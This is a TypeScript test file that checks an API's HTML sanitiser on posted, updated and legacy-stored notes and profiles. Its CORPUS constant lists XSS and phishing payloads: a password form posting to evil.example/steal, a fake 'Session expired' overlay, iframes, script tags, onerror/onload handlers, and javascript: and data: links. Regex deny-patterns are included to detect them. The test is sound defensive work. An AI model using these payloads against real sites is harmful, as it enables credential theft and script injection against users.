/**
 * What HTML the API keeps: an XSS and phishing corpus posted, updated and
 * set on a profile comes back with only the tags a post needs; records a
 * previous version stored unsanitised are sanitised when read.
 */
import { describe, it, before, after } from "node:test";
import assert from "node:assert/strict";
import { PUBLIC, addr, pathOf, postNote, startApi, type ApiFixture, type TestUser } from "./support";

/** One string per trick; each also carries harmless text that must survive. */
const CORPUS = [
  `<style>.site-header{display:none}body{background:red}</style>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Session expired, log in again</div>`,
  `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><input type="submit"><button type="submit">Log in</button></form>`,
  `<p style="color:red" class="site-header" id="main">styled paragraph</p>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<svg onload="alert(1)"><circle r="5"/></svg><img src="x" onerror="alert(2)">`,
  `<a href="javascript:alert(3)">js link</a><a href=" JaVaScRiPt:alert(4)">js link 2</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">data link</a><img src="data:image/svg+xml,<svg onload=alert(6)>">`,
  `<script>alert(7)</script><object data="x"></object><embed src="x"><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<p>Fine: <a href="https://example.com/page">a link</a>, <strong>bold</strong>, <img src="https://example.com/cat.png" alt="cat"></p>`,
].join("\n");

/** Fails on anything in `html` beyond the allow-list. */
function assertPostHtml(html: string, where: string): void {
  assert.doesNotMatch(html, /<(style|form|input|button|iframe|svg|script|object|embed|link|div|meta)\b/i, where);
  assert.doesNotMatch(html, /\s(style|class|id|on[a-z]+)\s*=/i, where);
  assert.doesNotMatch(html, /(javascript|data):/i, where);
  for (const a of html.match(/<a\b[^>]*>/g) ?? []) assert.match(a, /rel="nofollow noopener"/, `${where}: ${a}`);
  for (const img of html.match(/<img\b[^>]*>/g) ?? []) assert.match(img, /src="https:\/\//, `${where}: ${img}`);
}

describe("API: the HTML that is kept", () => {
  let api: ApiFixture;
  let mallory: TestUser;
  let reader: TestUser;

  before(async () => {
    api = await startApi();
    mallory = await api.user("mallory");
    reader = await api.user("reader");
  });
  after(() => api.close());

  it("a note's content and summary, as posted and as read, keep only what a post needs", async () => {
    const act = await postNote(api, mallory, CORPUS, { to: [addr(PUBLIC, "collection")], object: { summary: CORPUS, displayName: `<b onclick="x()">Title</b>` } });
    for (const [where, obj] of [
      ["answer", act.object],
      ["GET object", await api.ok(reader.creds, "GET", pathOf(act.object.links.self.href))],
      ["GET activity", (await api.ok(reader.creds, "GET", pathOf(act.links.self.href))).object],
      ["feed", (await api.ok(reader.creds, "GET", "/api/user/mallory/feed")).items.find((i: { id: string }) => i.id === act.id).object],
    ] as const) {
      assertPostHtml(obj.content, `${where} content`);
      assertPostHtml(obj.summary, `${where} summary`);
      assert.equal(obj.displayName, "Title", where);
      assert.match(obj.content, /Session expired, log in again/, "the text of dropped tags stays");
      assert.match(obj.content, /<a rel="nofollow noopener" href="https:\/\/example.com\/page">a link<\/a>/);
      assert.match(obj.content, /<strong>bold<\/strong>/);
      assert.match(obj.content, /<img src="https:\/\/example.com\/cat.png" alt="cat" \/>/);
    }
    // The storage mark stays private, at every level of what is shown.
    for (const path of ["/api/user/mallory/feed", "/api/user/mallory/inbox", "/api/user/mallory/profile", pathOf(act.links.self.href)]) {
      const res = await api.req(mallory.creds, "GET", path);
      assert.doesNotMatch(res.text, /"_/, path);
    }
  });

  it("updates (PUT object, PUT profile, PUT activity) are sanitised too", async () => {
    const act = await postNote(api, mallory, "plain");
    const updated = await api.ok(mallory.creds, "PUT", pathOf(act.object.links.self.href), { objectType: "note", content: CORPUS, _html: 1 });
    assertPostHtml(updated.content, "PUT object");
    const profile = await api.ok(mallory.creds, "PUT", "/api/user/mallory/profile", { objectType: "person", summary: CORPUS, displayName: `<img src=x onerror="alert(1)">Mal` });
    assertPostHtml(profile.summary, "PUT profile");
    assert.equal(profile.displayName, "Mal");
    const read = await api.ok(reader.creds, "GET", "/api/user/mallory/profile");
    assertPostHtml(read.summary, "GET profile");
    const putAct = await api.ok(mallory.creds, "PUT", pathOf(act.links.self.href), { content: CORPUS });
    assertPostHtml(putAct.content, "PUT activity");
  });

  it("a note stored by the previous version, unsanitised and unmarked, is sanitised when read", async () => {
    const act = await postNote(api, mallory, "soon rewritten", { to: [addr(PUBLIC, "collection")] });
    const bank = api.server.worker.bank;
    // What the previous version could have stored: raw HTML, no mark.
    const { _html: _mark, ...old } = await bank.read<Record<string, unknown>>("activityobject", act.object.id);
    await bank.save("activityobject", act.object.id, { ...old, content: CORPUS });
    const obj = await api.ok(reader.creds, "GET", pathOf(act.object.links.self.href));
    assertPostHtml(obj.content, "legacy object");
    assert.match(obj.content, /Session expired/);
    const feed = await api.ok(reader.creds, "GET", "/api/user/mallory/feed");
    assertPostHtml(feed.items.find((i: { id: string }) => i.id === act.id).object.content, "legacy object in a feed");
  });
});
